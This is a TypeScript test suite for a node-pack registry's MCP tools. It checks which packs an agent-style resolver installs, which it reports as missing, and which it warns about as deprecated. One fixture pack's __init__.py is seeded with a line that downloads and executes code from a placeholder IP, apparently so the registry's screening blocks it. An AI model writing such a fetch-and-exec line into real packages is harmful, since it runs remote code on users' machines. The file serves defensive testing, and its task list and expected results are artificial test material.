import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import { type TestPublisher, testPublisher } from '../../../test/publishing.ts'
import { useWorld } from '../../../test/world.ts'
import { toActor } from '../../people/identity/users.ts'
import { publishAdvisory } from '../../safety/advisories/publish.ts'

const registry = useWorld()

/** The packs of the scene, with their nodes. */
const packs = {
  'soft-glow': ['Soft Glow', 'Soft Glow (Advanced)'],
  'film-grain': ['FilmGrain', 'Grain/Colored'],
  'mask-tools': ['MaskGrow', 'Mask Shrink', 'マスク合成'],
  'tile-upscale': ['TileUpscale', 'TileMerge'],
  'old-noise': ['OldNoise'],
  'bad-actor': ['Free Upscaler'],
  'held-back': ['Held Node'],
} as const

type Pack = keyof typeof packs

interface Task {
  /** The names of the nodes in the workflow, or in the error text. */
  names: readonly string[]
  form: 'error' | 'editor' | 'api' | 'text'
  install: readonly Pack[]
  /** Names that no pack can provide now. */
  missing?: readonly string[]
  warned?: readonly Pack[]
}

const simple: [string, Pack][] = [
  ['Soft Glow', 'soft-glow'],
  ['Soft Glow (Advanced)', 'soft-glow'],
  ['FilmGrain', 'film-grain'],
  ['Grain/Colored', 'film-grain'],
  ['MaskGrow', 'mask-tools'],
  ['マスク合成', 'mask-tools'],
  ['TileUpscale', 'tile-upscale'],
]

const tasks: Task[] = [
  ...simple.map(([name, pack]): Task => ({ names: [name], form: 'error', install: [pack] })),
  ...simple.map(([name, pack]): Task => ({ names: ['KSampler', name], form: 'editor', install: [pack] })),
  ...simple.map(([name, pack]): Task => ({ names: [name, 'VAEDecode'], form: 'api', install: [pack] })),
  { names: ['FilmGrain', 'MaskGrow'], form: 'editor', install: ['film-grain', 'mask-tools'] },
  { names: ['FilmGrain', 'Grain/Colored'], form: 'text', install: ['film-grain'] },
  { names: ['TileUpscale', 'TileMerge', 'Soft Glow'], form: 'api', install: ['soft-glow', 'tile-upscale'] },
  { names: ['KSampler'], form: 'editor', install: [] },
  { names: ['No Such Node'], form: 'error', install: [], missing: ['No Such Node'] },
  { names: ['Held Node'], form: 'editor', install: [], missing: ['Held Node'] },
  { names: ['OldNoise'], form: 'error', install: ['old-noise'], warned: ['old-noise'] },
  {
    names: ['OldNoise', 'FilmGrain'],
    form: 'api',
    install: ['film-grain', 'old-noise'],
    warned: ['old-noise'],
  },
  {
    names: ['Free Upscaler', 'MaskGrow'],
    form: 'editor',
    install: ['mask-tools'],
    missing: ['Free Upscaler'],
  },
]

describe('an agent that makes workflows run', () => {
  before(makeScene)

  it('has 30 tasks', () => assert.equal(tasks.length, 30))

  for (const [at, task] of tasks.entries())
    it(`solves task ${at + 1}: ${task.form} with ${task.names.join(', ')}`, async () => {
      const { install, missing, warned } = await solve(task)
      assert.deepEqual([install, missing, warned], [task.install, task.missing ?? [], task.warned ?? []])
    })
})

/** Solves a task with calls of tools alone. */
async function solve({ names, form }: Task) {
  const found =
    form === 'error'
      ? await call('resolve_nodes', { comfy_nodes: names.map((name) => ({ comfy_node_name: name })) }).then(
          packsIn,
        )
      : ((await call('resolve_workflow', { workflow: workflowOf(names, form) })) as Found)
  const [install, missing, warned]: string[][] = [[], [...found.unknown], []]
  for (const { pack, nodes } of found.packs) {
    const { latest_version: latest, install: state } = (await call('get_pack', { nodeId: pack })) as PackFacts
    if (latest?.downloadUrl && !latest.refusedBy) install?.push(pack)
    else missing?.push(...nodes)
    if (state.state === 'deprecated') warned?.push(pack)
  }
  return { install: install?.sort(), missing, warned }
}

interface Found {
  packs: { pack: string; nodes: string[] }[]
  unknown: string[]
}
interface PackFacts {
  latest_version?: { downloadUrl?: string; refusedBy?: string }
  install: { state: string }
}

function packsIn(value: unknown): Found {
  const { comfy_nodes: all } = value as {
    comfy_nodes: { comfy_node_name: string; status: string; provider?: { node_id: string } }[]
  }
  return {
    packs: all.flatMap(({ comfy_node_name: name, provider }) =>
      provider ? [{ pack: provider.node_id, nodes: [name] }] : [],
    ),
    unknown: all.filter(({ status }) => status === 'unknown').map((one) => one.comfy_node_name),
  }
}

function workflowOf(names: readonly string[], form: Task['form']): unknown {
  if (form === 'editor') return { nodes: names.map((type, id) => ({ id, type, pos: [0, 0] })), links: [] }
  const prompt = Object.fromEntries(names.map((name, id) => [String(id), { class_type: name, inputs: {} }]))
  return form === 'text' ? JSON.stringify(prompt) : prompt
}

async function call(name: string, given: object): Promise<unknown> {
  const { payload } = await registry.world.inject({
    method: 'POST',
    url: '/mcp',
    headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
    payload: JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name, arguments: given },
    }),
  })
  const message = payload.startsWith('{') ? payload : (/^data: (.*)$/m.exec(payload)?.[1] ?? '')
  const { result } = JSON.parse(message)
  assert.notEqual(result.isError, true, message)
  const text: string = result.content[0].text
  assert.ok(Buffer.byteLength(text) <= 4096)
  return JSON.parse(text).result
}

async function makeScene(): Promise<void> {
  const { world } = registry
  const acme = await testPublisher(world, { id: 'acme' })
  for (const [id, names] of Object.entries(packs)) await publishPack(acme, id, names)
  const params = { publisherId: 'acme', nodeId: 'old-noise', versionId: '1.0.0' }
  const token = { authorization: `Bearer ${acme.token}` }
  await world.inject({
    method: 'PUT',
    url: `/publishers/acme/nodes/old-noise/versions/${params.versionId}`,
    headers: token,
    payload: { deprecated: true, deprecation_message: 'Use film-grain.' },
  })
  const admin = await world.given.user({ is_admin: true })
  await publishAdvisory(world.deps, toActor(admin), {
    node_id: 'bad-actor',
    severity: 'critical',
    title: 'Steals keys',
    details: '',
    remedy: '',
    versions: [],
    aliases: [],
    references: [],
    refuses_installs: true,
    archive_digests: [],
    file_digests: [],
    ranges: [{ introduced: '0.0.0' }],
  })
  await world.runJobs()
}

async function publishPack(acme: TestPublisher, id: string, names: readonly string[]): Promise<void> {
  const classes = names.map((_, at) => `class N${at}:\n    RETURN_TYPES = ("IMAGE",)\n    FUNCTION = "f"\n`)
  const mapping = names.map((name, at) => `"${name}": N${at}`).join(', ')
  const danger = id === 'held-back' ? 'import requests\nexec(requests.get("http://203.0.113.9").text)\n' : ''
  await acme.publish({
    id,
    files: { '__init__.py': `${danger}${classes.join('')}NODE_CLASS_MAPPINGS = {${mapping}}\n` },
  })
}
